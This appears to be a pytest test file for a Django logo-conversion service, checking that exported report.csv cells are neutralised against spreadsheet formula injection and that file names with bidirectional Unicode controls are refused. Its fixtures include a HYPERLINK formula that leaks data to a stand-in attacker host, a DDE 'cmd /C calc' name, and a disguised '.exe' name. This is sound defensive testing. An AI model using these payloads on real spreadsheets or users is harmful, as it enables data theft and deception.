"""Member names at intake and in report.csv: no live formulas, no reversed text."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from conversions.batches.export import csv_safe
from conversions.batches.intake import Limits, Member, read_inputs
from conversions.batches.refusals import Refusal
from tests.batches.conftest import make_zip
from tests.conftest import draw_logo

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak")'


def report_rows(api_client, batch_id) -> list[dict[str, str]]:
    response = api_client.get(f"/api/batches/{batch_id}/download")
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as archive:
        return list(csv.DictReader(io.StringIO(archive.read("report.csv").decode())))


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])  # tab and CR: unsafe names, refused
def test_intake_report_csv_cells_never_start_a_formula(api_client, inline_batches, lead):
    members = {
        f"{lead}{FORMULA[1:]}.png": draw_logo(48),
        f"{lead}cmd|' /C calc'!A0.png": b"not an image",
    }
    data = make_zip(members)
    body = api_client.post(
        "/api/batches",
        {"files": [SimpleUploadedFile("logos.zip", data)], "converter": "vtracer"},
        format="multipart",
    ).json()

    rows = report_rows(api_client, body["batch_id"])

    assert {row["status"] for row in rows} == {"done", "refused"}
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r", row
        assert row["name"].startswith("'" + lead)


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_intake_csv_safe_quotes_every_formula_lead(lead):
    row = csv_safe({"name": f"{lead}1+1", "error": f"x{lead}", "bytes": 12})

    assert row == {"name": f"'{lead}1+1", "error": f"x{lead}", "bytes": 12}


BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
        "\u2069", "\u200e", "\u200f"]  # fmt: skip


@pytest.mark.parametrize("mark", BIDI)
def test_intake_refuses_member_names_with_bidi_controls(mark):
    name = f"invoice{mark}gnp.exe.png"
    data = make_zip({name: draw_logo(48), "good.png": draw_logo(48)})
    limits = Limits(max_items=10, member_bytes=10**6, total_bytes=10**7)

    results = list(read_inputs([("logos.zip", io.BytesIO(data))], limits))

    taken = [r.name for r in results if isinstance(r, Member)]
    [refusal] = [r for r in results if isinstance(r, Refusal)]
    assert taken == ["good.png"]
    assert "unsafe member name" in refusal.reason
    assert mark not in refusal.name  # shown escaped: the refusal cannot reverse text either
    assert f"\\u{ord(mark):04x}" in refusal.name


@pytest.mark.parametrize("mark", BIDI)
def test_intake_uploaded_file_names_lose_bidi_controls(mark):
    limits = Limits(max_items=10, member_bytes=10**6, total_bytes=10**7)

    [member] = read_inputs([(f"logo{mark}gnp.png", io.BytesIO(draw_logo(48)))], limits)

    assert mark not in member.name
